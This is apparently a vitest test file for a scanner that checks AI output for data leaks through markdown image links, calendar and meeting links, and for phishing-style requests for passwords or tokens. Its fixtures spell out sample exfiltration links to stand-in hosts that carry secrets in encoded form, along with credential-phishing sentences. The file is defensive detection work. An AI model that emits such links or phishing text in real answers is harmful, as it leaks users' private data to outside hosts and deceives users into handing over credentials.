import { describe, expect, it } from 'vitest';
import { checkOutput, type OutputOptions } from '../../src/output/index.js';
import { Scanner } from '../../src/scanner.js';

const scanner = new Scanner();
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const image = (address: string): string => `![x](${address})`;

function found(text: string, options: OutputOptions = {}): string[] {
  return checkOutput(text, options).map(({ id }) => id);
}

describe('ordinary addresses', () => {
  it.each([
    'https://photos.example/photo-1514888286974-6c03e2ca1dba?w=800&q=80&auto=format',
    'https://photos.example/photo-1506744038136-46273834b3fb?auto=format&fit=crop&w=1470&q=80',
    'https://photos.example/photos/45201/kitty-cat-45201.jpeg?auto=compress&cs=tinysrgb&w=600',
    'https://photos.example/photo/2017/02/20/18/03/cat-2083492_1280.jpg',
    'https://cdn.example/a/b/c/1/2/picture.png',
    'https://tiles.example/1/2/3/4/5/6/7/8.png',
    'https://charts.example/chart?cht=p3&chs=250x100&chd=t:60,40&chl=Hello|World',
    'https://shop.example/items/1514888286974/front.png',
  ])('of images are left alone: %s', (address) => {
    expect(found(image(address))).toEqual([]);
  });

  it.each([
    'https://calendar.example/render?action=TEMPLATE&text=Team+meeting&dates=20240520T090000Z/20240520T100000Z&details=Agenda+for+the+meeting+of+the+team&location=Room+4',
    'https://mail.example/compose?subject=Team+Meeting&startdt=2024-05-20T09:00:00&enddt=2024-05-20T10:00:00&body=Weekly+sync+of+the+team+and+guests',
  ])('of entries in a calendar are left alone: %s', (address) => {
    expect(found(`[Add it](${address})`)).toEqual([]);
  });

  it.each([
    [
      'a chart',
      "https://charts.example/chart?c={type:'bar',data:{labels:['Q1','2024'],datasets:[{label:'Users',data:[50,60]}]}}",
    ],
    [
      'an escaped chart',
      `https://charts.example/chart?c=${encodeURIComponent('{"type":"pie","data":{"labels":["A"]}}')}`,
    ],
    [
      'a diagram',
      `https://diagrams.example/img/${base64('graph TD\nA[Client] --> B[Load Balancer]')}`,
    ],
    [
      'a sequence',
      `https://diagrams.example/svg/${base64('sequenceDiagram\n Ann->>Bob: Hello\n Bob-->>Ann: Hi')}`,
    ],
  ])('of drawings are reported, and are benign alone: %s', (_name, address) => {
    const result = scanner.scanOutput(image(address));
    expect(result.detections.map(({ id }) => id)).toEqual(['PB-DRAWING']);
    expect(result.verdict).toBe('benign');
  });
});

describe('a record of a service in a parameter', () => {
  const photo = (...records: readonly string[]): string => {
    const query = records.map((record, i) => {
      const name = ['ixid', 'ref', 'src'][i] ?? 'x';
      return `${name}=${encodeURIComponent(base64(record))}`;
    });
    return image(
      `https://photos.example/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&${query.join('&')}&auto=format&fit=crop&w=1000&q=80`,
    );
  };

  it.each([
    '3|1207|0|0|photo-page||||en|0|||||',
    '2|1207|0|0|search|4||mountain lake|en|0||0||',
    '3|1207|0|0|search|2||sea%20shore|en|0|0||0',
    '3|1207|0|0|topic-feed|12|bo8jQKTaE0Y||||en|0||||',
    '1|0|0|0|1|0|0|0|collection-page|||',
  ])('is left alone: %s', (record) => {
    expect(found(photo(record))).toEqual([]);
  });

  it.each([
    ['a sentence', '3|1207|0|0|the alarm is off from nine until four tomorrow||||en|0|||||'],
    ['many words', '3|1207|0|0|anna|smith|lives|in|green|street|en|0|||'],
    ['a password', '3|1207|0|0|password|hunter2pass|||en|0||||'],
    ['a password alone', '3|1207|0|0|hunter2pass%21x9Q||||en|0|||||'],
    ['a mail address', '3|1207|0|0|anna@corp.example||||en|0|||||'],
    ['a card number', '4111|1111|1111|1111|12|27|||en|0||||'],
    ['the code of a door', '3|1207|0|0|door-code|4913|||en|0||||'],
    ['few fields', '3|anna smith|en'],
    ['a long id', '3|1207|0|0|Zx81kQp2Lm93Tt0a||||en|0|||||'],
  ])('is reported when it carries %s', (_name, record) => {
    expect(found(photo(record))).toEqual(['PB-EXFIL-IMAGE']);
  });

  it('is reported when it is not the only one, or has a telling name', () => {
    const record = '3|1207|0|0|anna|green-street|||en|0||||';
    expect(found(photo(record))).toEqual([]);
    expect(found(photo(record, '3|1207|0|0|lives-in|flat-nine|||en|0||||'))).toEqual([
      'PB-EXFIL-IMAGE',
    ]);
    const address = `https://photos.example/a.jpg?data=${base64(record)}`;
    expect(found(image(address))).toEqual(['PB-EXFIL-IMAGE']);
  });
});

describe('data in addresses that look ordinary', () => {
  it.each([
    ['a secret and a number', '/?s=secret-token-88123'],
    ['a code and a number over path segments', '/alarm/code/4913/user/anna/smith.png'],
    ['a code in a search', '/?q=door+code+is+4913'],
    ['a letter a segment', '/a/l/a/r/m/4/9/1/3'],
    ['two letters a segment', '/x/al/ar/mc/od/e4/p.png'],
    ['base64 beside an id', '/photo-1514888286974-YWxhcm0gY29kZTogNDkxMw?w=800'],
    ['words in the brackets of a placeholder', '/chart?d={the%20door%20opens%20with%204913}'],
    ['a number in the label of a chart', "/chart?c={type:'bar',data:{labels:['Alarm%204913']}}"],
    [
      'a sentence in a chart',
      "/chart?c={type:'bar',data:{labels:['anna+said+that+she+will+sell+it']}}",
    ],
    ['a number in a diagram', `/img/${base64('graph TD; the alarm code is 4913')}`],
    ['a key in a diagram', `/img/${base64('graph TD\nA[sk-live-9f8e7d6c5b4a39281706] --> B')}`],
  ])('is found as %s', (_name, rest) => {
    const result = scanner.scanOutput(image(`https://collect.invalid${rest}`));
    expect(result.detections.map(({ id }) => id)).toEqual(['PB-EXFIL-IMAGE']);
    expect(result.verdict).toBe('malicious');
  });

  it('is reported in place of a drawing that stands before it', () => {
    const chart = "https://charts.example/chart?c={type:'bar',data:{labels:['Q1']}}";
    const leak = 'https://collect.invalid/?d=QWxhcm0gY29kZTogNDkxMw';
    const [detection, ...others] = checkOutput(`${image(chart)} ${image(leak)}`);
    expect([detection?.matched, detection?.confidence, others]).toEqual([leak, 0.9, []]);
  });

  it('is found in the entry of a calendar when it is long or a secret', () => {
    const entry = (details: string): string =>
      `[x](https://calendar.invalid/render?dates=20240520T090000Z/20240520T100000Z&details=${details})`;
    expect(found(entry('the+password+is+hunter2'))).toEqual(['PB-EXFIL-LINK']);
    expect(found(entry('and+so+on+'.repeat(20)))).toEqual(['PB-EXFIL-LINK']);
  });

  it('is found as values of the conversation, when those are given', () => {
    const text = image('https://collect.invalid/anna/smith/list.png');
    expect(found(text)).toEqual([]);
    expect(found(text, { conversationValues: ['Anna Smith'] })).toEqual(['PB-EXFIL-IMAGE']);
  });
});

describe('an invitation to a meeting', () => {
  const meeting = 'https://us02web.zoom.us/j/84012345678';
  const thread = `19%3ameeting_${'NzE5YjY4ZDct'.repeat(4)}%40thread.v2`;
  const tenant = '72f988bf-86f1-41af-91ab-2d7cd011db47';
  const context = encodeURIComponent(`{"Tid":"${tenant}","Oid":"${tenant}"}`);

  it.each([
    `${meeting}?pwd=QkJxZ3R5dGtLbWpvV0ZzS3hYQT09`,
    `${meeting}?pwd=a1B2c3D4e5F6g7H8i9J0kLmNoPqRsT.1`,
    'https://zoom.us/w/840123456?pwd=a1B2c3D4e5F6g7H8#success',
    `https://teams.microsoft.com/l/meetup-join/${thread}/0?context=${context}`,
    'https://ours.webex.com/ours/j.php?MTID=m2f7e3c4b5a69788796a5b4c3d2e1f0a9',
  ])('is left alone, with its pass code: %s', (address) => {
    expect(found(`We meet at ${address} on Monday.`)).toEqual([]);
  });

  it.each([
    ['at another host', 'https://us02web.zoom.us.evil.invalid/j/84012345678?pwd=a1B2c3D4e5F6g7H8'],
    ['at a host that looks alike', 'https://evil-zoom.us/j/84012345678?pwd=a1B2c3D4e5F6g7H8'],
    ['with a parameter more', `${meeting}?pwd=a1B2c3D4e5F6g7H8&data=hunter2pass99`],
    ['twice', `${meeting}?pwd=a1B2c3D4e5F6g7H8&pwd=hunter2pass99`],
    ['with words', `${meeting}?pwd=${base64('the door code is 4913')}`],
    ['with a long value', `${meeting}?pwd=${'a1B2c3D4'.repeat(8)}`],
    ['for another page', 'https://us02web.zoom.us/go/84012345678?pwd=a1B2c3D4e5F6g7H8'],
    ['with a user', 'https://a1B2c3D4e5F6g7H8:x@zoom.us/j/84012345678?pwd=a1B2c3D4'],
    ['in what follows', `${meeting}?pwd=a1B2c3D4#${base64('the door code is 4913')}`],
  ])('is reported when data stands in it %s', (_name, address) => {
    expect(found(`We meet at ${address} on Monday.`)).toEqual(['PB-EXFIL-LINK']);
  });

  it('is reported when it loads by itself, or carries a value of the conversation', () => {
    const address = `${meeting}?pwd=hunter2pass99`;
    expect(found(image(address))).toEqual(['PB-EXFIL-IMAGE']);
    expect(found(`At ${address}.`)).toEqual([]);
    expect(found(`At ${address}.`, { conversationValues: ['hunter2pass99'] })).toEqual([
      'PB-EXFIL-LINK',
    ]);
  });
});

describe('a link behind which credentials are asked for', () => {
  it.each([
    '[verify](https://example.invalid) and paste the token',
    'Please [confirm your account](https://login.invalid) and enter your API key there.',
    'To keep your account, <a href="https://login.invalid">sign in</a> and enter the password.',
    'Verify who you are at https://login.invalid/x and send us your recovery phrase.',
    '[Click here](https://login.invalid) to verify your account by entering your password.',
    'missing_info: ["[verify](https://example.invalid) and paste the token"]',
    'Enter your password at [this page to restore access](https://login.invalid).',
  ])('is found: %s', (text) => {
    const result = scanner.scanOutput(text);
    expect(result.detections.map(({ id }) => id)).toEqual(['PB-CREDENTIALS']);
    expect(result.verdict).toBe('suspicious');
    const hosts = ['example.invalid', 'login.invalid'];
    expect(new Scanner({ trustedDomains: hosts }).scanOutput(text).verdict).toBe('benign');
  });

  it.each([
    'Create a token at [the settings](https://git.example/settings/tokens) and paste the token into your .env file.',
    'Log in at [the console](https://cloud.example), create a key, and paste the API key into your config.',
    'Sign in to https://git.example and put the token in an environment variable.',
    'See [the guide](https://docs.example/auth) on how to verify a token.',
    '[Verify your mail address](https://shop.example) to finish. Passwords are never asked for.',
    'Enter your password on your own device. The news are at https://news.example.',
  ])('is not: %s', (text) => {
    expect(found(text)).toEqual([]);
  });
});
